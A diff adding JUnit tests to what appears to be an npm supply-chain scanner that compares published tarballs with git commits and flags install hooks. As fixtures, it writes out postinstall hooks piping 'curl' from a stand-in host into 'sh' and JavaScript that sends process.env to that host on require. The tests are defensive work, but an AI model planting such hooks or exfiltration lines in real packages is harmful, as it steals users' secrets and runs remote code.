@@ -203,6 +203,99 @@ class NpmScanTest {
     }
 
     @Test
+    void aRecordedCommitWhosePayloadALaterCommitOfTheSameVersionRevertedIsComparedWithTheLaterOne() throws Exception {
+        // red9 case3: 1.0.1 untagged; P adds a postinstall, the next commit reverts it; the tarball is P's files
+        // and gitHead names P. A later commit that changes the code without undoing P keeps P.
+        SortedMap<String, byte[]> base = files("package.json", pkgJson("widget", "1.0.0", ""), "index.js", "a\n",
+                "cli.js", "b\n");
+        commit(base, "1.0.0");
+        git.tag("v1.0.0", false);
+        SortedMap<String, byte[]> prep = with(base, "package.json", pkgJson("widget", "1.0.1", ""));
+        commit(prep, "prep 1.0.1");
+        SortedMap<String, byte[]> payload = with(prep, "package.json", pkgJson("widget", "1.0.1",
+                ",\n  \"scripts\": {\"postinstall\": \"curl -s https://example.invalid/p | sh\"}"));
+        String p = commit(payload, "add install hook");
+        String reverted = commit(prep, "Revert add install hook");
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
+            npm.publish("1.0.1", payload).put("gitHead", p);
+            ReleaseReport r = scan(npm, "pkg:npm/widget", "1.0.1");
+            assertEquals(RefMethod.REGISTRY_COMMIT, r.ref().method());
+            assertEquals(reverted, r.ref().commit().orElseThrow());
+            assertFalse(r.ref().agreement().orElseThrow());
+            assertTrue(r.ref().note().orElseThrow().contains(p.substring(0, 12) + " holds code or a manifest that "
+                    + reverted.substring(0, 12)), r.ref().note().orElseThrow());
+            FileDivergence pj = row(r.artifacts().get(0), "package/package.json");
+            assertEquals(NpmGeneratedFiles.INSTALL_SCRIPT, pj.ruleId());
+            assertEquals(Verdict.HIGH_RISK, r.verdict());
+        }
+    }
+
+    @org.junit.jupiter.params.ParameterizedTest
+    @org.junit.jupiter.params.provider.ValueSource(booleans = {false, true})
+    void anInstallScriptOnlyASideBranchDeclaresIsHighRiskAndOneTheDefaultBranchDeclaredIsNot(boolean reviewed)
+            throws Exception {
+        // red9 case2: gitHead names a commit only wip/telemetry holds, which adds a postinstall: the package.json
+        // matches that commit, but no reviewed commit declares the script. The control keeps a postinstall that
+        // main declares (same version published from a release branch): only DIVERGENT for the side branch.
+        {
+            String own = reviewed ? ",\n  \"scripts\": {\"postinstall\": \"node setup.js\"}" : "";
+            SortedMap<String, byte[]> base = files("package.json", pkgJson("widget", "1.0.0", own), "index.js", "a\n",
+                    "cli.js", "b\n", "setup.js", "0;\n");
+            commit(base, "1.0.0");
+            git.tag("v1.0.0", false);
+            SortedMap<String, byte[]> prep = with(base, "package.json", pkgJson("widget", "1.0.1", own));
+            String main = commit(prep, "prep 1.0.1");
+            SortedMap<String, byte[]> side = reviewed ? with(prep, "index.js", "a2\n") : with(prep, "package.json",
+                    pkgJson("widget", "1.0.1", ",\n  \"scripts\": {\"postinstall\": \"curl -s https://example.invalid | sh\"}"));
+            String wip = commit(side, "wip");
+            try (org.eclipse.jgit.lib.Repository repo = new org.eclipse.jgit.storage.file.FileRepositoryBuilder()
+                    .setGitDir(git.dir().resolve(".git").toFile()).setMustExist(true).build()) {
+                for (String[] ref : new String[][] {{"refs/heads/wip/telemetry", wip}, {"refs/heads/main", main}}) {
+                    org.eclipse.jgit.lib.RefUpdate u = repo.updateRef(ref[0]);
+                    u.setNewObjectId(org.eclipse.jgit.lib.ObjectId.fromString(ref[1]));
+                    u.forceUpdate();
+                }
+            }
+            try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
+                npm.publish("1.0.1", side).put("gitHead", wip);
+                ReleaseReport r = scan(npm, "pkg:npm/widget", "1.0.1");
+                assertEquals(wip, r.ref().commit().orElseThrow());
+                assertEquals(Optional.of("wip/telemetry"), r.ref().baselineBranch());
+                FileDivergence pj = row(r.artifacts().get(0), "package/package.json");
+                if (reviewed) {
+                    assertFalse(pj.highRisk(), pj.toString());
+                    assertEquals(Verdict.DIVERGENT, r.verdict());
+                } else {
+                    assertEquals("compare.unreviewed-install-script", pj.ruleId());
+                    assertTrue(pj.riskFlags().contains(RiskFlag.INSTALL_SCRIPT));
+                    assertTrue(pj.detail().orElseThrow().contains("declares postinstall: curl -s https://example.invalid"
+                            + " | sh, which no commit of the default branch or a tag declares"), pj.detail().orElseThrow());
+                    assertEquals(Verdict.HIGH_RISK, r.verdict());
+                }
+            }
+        }
+    }
+
+    @Test
+    void aRecordedCommitALaterCommitOfTheSameVersionChangedWithoutRevertingStaysTheBaseline() throws Exception {
+        SortedMap<String, byte[]> base = files("package.json", pkgJson("widget", "1.0.0", ""), "index.js", "a\n",
+                "cli.js", "b\n");
+        commit(base, "1.0.0");
+        git.tag("v1.0.0", false);
+        SortedMap<String, byte[]> released = with(base, "package.json", pkgJson("widget", "1.0.1", ""),
+                "index.js", "a2\n");
+        String p = commit(released, "1.0.1");
+        commit(with(released, "index.js", "a3\n"), "more work before the next bump");
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
+            npm.publish("1.0.1", released).put("gitHead", p);
+            ReleaseReport r = scan(npm, "pkg:npm/widget", "1.0.1");
+            assertEquals(RefMethod.REGISTRY_COMMIT, r.ref().method());
+            assertEquals(p, r.ref().commit().orElseThrow());
+            assertEquals(Verdict.CLEAN, r.verdict());
+        }
+    }
+
+    @Test
     void provenanceAttestationNamingAnEarlierCommitThanAMovedTagIsRecordedAndTheTagKept() throws Exception {
         SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "5.0.0", ""), "index.js", "a\n",
                 "cli.js", "b\n");
@@ -317,6 +410,33 @@ class NpmScanTest {
     }
 
     @Test
+    void aModuleAPublishScriptWritesThatThePackagesCodeLoadsIsNotBuildOutputButDataAndUnloadedFilesAre() throws Exception {
+        // red9 case9: "prepare": "node -p \"'module.exports = ' + ...version\" > version.js", index.js requires it;
+        // the shipped version.js also sends process.env away at require time. lib/data.json (required, parsed as
+        // data) and dist/bundle.js (nothing loads it) stay build output.
+        String scripts = ",\n  \"scripts\": {\"prepare\": \"node -p \\\"'module.exports = ' + JSON.stringify("
+                + "require('./package.json').version)\\\" > version.js && node d > lib/data.json"
+                + " && node b > dist/bundle.js && node c > lib/helper.js\"}";
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.9.0", scripts),
+                ".gitignore", "version.js\n", "index.js", "exports.version = require('./version.js');\n"
+                        + "exports.data = require('./lib/data');\n", "cli.js", "require('./index');\n",
+                "lib/use.js", "var h = '../lib/helper';\nmodule.exports = require(h);\n");
+        ArtifactReport a = publishAndScan(tree, "4.9.0", with(tree,
+                "version.js", "module.exports = \"4.9.0\";\nrequire(\"https\").get(\"https://example.invalid/c?d=\" + "
+                        + "Buffer.from(JSON.stringify(process.env)).toString(\"base64\"));\n",
+                "lib/data.json", "{\"a\":1}\n", "dist/bundle.js", "(function(){ var a = 2; })();\n",
+                "lib/helper.js", "module.exports = 3;\n"));
+        FileDivergence version = row(a, "package/version.js");
+        assertEquals(FileStatus.PHANTOM, version.status());
+        assertEquals("compare.unexplained", version.ruleId());
+        // a module loaded through a string literal that is not a require argument is still loaded
+        assertEquals(FileStatus.PHANTOM, row(a, "package/lib/helper.js").status());
+        assertEquals(FileStatus.BUILD_OUTPUT, row(a, "package/lib/data.json").status());
+        assertEquals(FileStatus.BUILD_OUTPUT, row(a, "package/dist/bundle.js").status());
+        assertTrue(a.verdict() == Verdict.DIVERGENT || a.verdict() == Verdict.HIGH_RISK, a.verdict().toString());
+    }
+
+    @Test
     void aFileWrittenOnlyByAScriptThatDidNotRunAtPublishIsNotExplained() throws Exception {
         // a script publishing does not run (test) and a script only the published manifest declares explain
         // nothing; a stderr log and a command run in another folder write no file of the package
@@ -360,6 +480,33 @@ class NpmScanTest {
             assertTrue(f.riskFlags().contains(RiskFlag.AUTO_EXEC), p);
             assertTrue(f.highRisk(), p);
         }
+    }
+
+    @Test
+    void whatNodeResolvesForAnInstallScriptAndItsInputRedirectsRunAtInstall() throws Exception {
+        // red9 case6: "node scripts/setup" runs scripts/setup.js; -r/--import modules, a folder's package.json main
+        // and index file; red9 case4: "node <> scripts/run.js" (sh opens it read-write as node's stdin)
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.8.1",
+                        ",\n  \"scripts\": {\"preinstall\": \"node <> scripts/run.js\","
+                                + " \"install\": \"node -r ./hooks/a --import=./hooks/b scripts/setup > setup.log\","
+                                + " \"postinstall\": \"node tool && node lib\"}"),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
+                "scripts/setup.js", "module.exports = 0;\n", "scripts/run.js", "module.exports = 0;\n",
+                "scripts/setup.sh", "true\n", "hooks/a.js", "0;\n", "hooks/b.mjs", "0;\n",
+                "tool/package.json", "{\"main\": \"./main\"}\n", "tool/main.js", "0;\n", "lib/index.js", "0;\n");
+        String payload = "require('https').get('https://example.invalid/c?d=' + JSON.stringify(process.env));\n";
+        ArtifactReport a = publishAndScan(tree, "4.8.1", with(tree, "scripts/setup.js", payload,
+                "scripts/run.js", payload, "hooks/a.js", payload, "hooks/b.mjs", payload, "tool/main.js", payload,
+                "lib/index.js", payload, "scripts/setup.sh", "curl -s https://example.invalid | sh\n"));
+        for (String p : List.of("scripts/setup.js", "scripts/run.js", "hooks/a.js", "hooks/b.mjs", "tool/main.js",
+                "lib/index.js")) {
+            FileDivergence f = row(a, "package/" + p);
+            assertTrue(f.riskFlags().contains(RiskFlag.AUTO_EXEC), p + " " + f.riskFlags());
+            assertTrue(f.highRisk(), p);
+        }
+        // a file with the name but an extension Node never adds is not what runs
+        assertFalse(row(a, "package/scripts/setup.sh").riskFlags().contains(RiskFlag.AUTO_EXEC));
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
     }
 
     @Test
